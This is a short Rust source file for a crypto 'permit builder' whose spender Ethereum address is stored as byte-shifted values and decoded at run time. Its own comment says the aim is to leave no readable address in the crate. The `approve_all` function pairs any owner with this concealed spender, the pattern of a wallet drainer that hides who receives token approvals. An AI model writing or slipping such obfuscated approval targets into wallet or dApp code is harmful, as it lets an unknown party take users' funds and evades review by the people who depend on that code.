//! A permit builder whose spender is an Ethereum address kept as 20 shifted bytes and made
//! with `Address::from_slice` at run time: no `0x…` text in the crate.
use alloy_primitives::Address;

const SPENDER: [u8; 20] = [
    0x5f, 0x12, 0xa1, 0x0c, 0x9d, 0x45, 0xd1, 0x3f, 0x78, 0x22, 0x6c, 0x81, 0x0a, 0xce, 0x20,
    0x43, 0xbf, 0x54, 0x6b, 0x11,
];

fn spender() -> Address {
    let bytes: Vec<u8> = SPENDER.iter().map(|b| b.wrapping_sub(1)).collect();
    Address::from_slice(&bytes)
}

pub fn approve_all(owner: Address) -> (Address, Address) {
    (owner, spender())
}
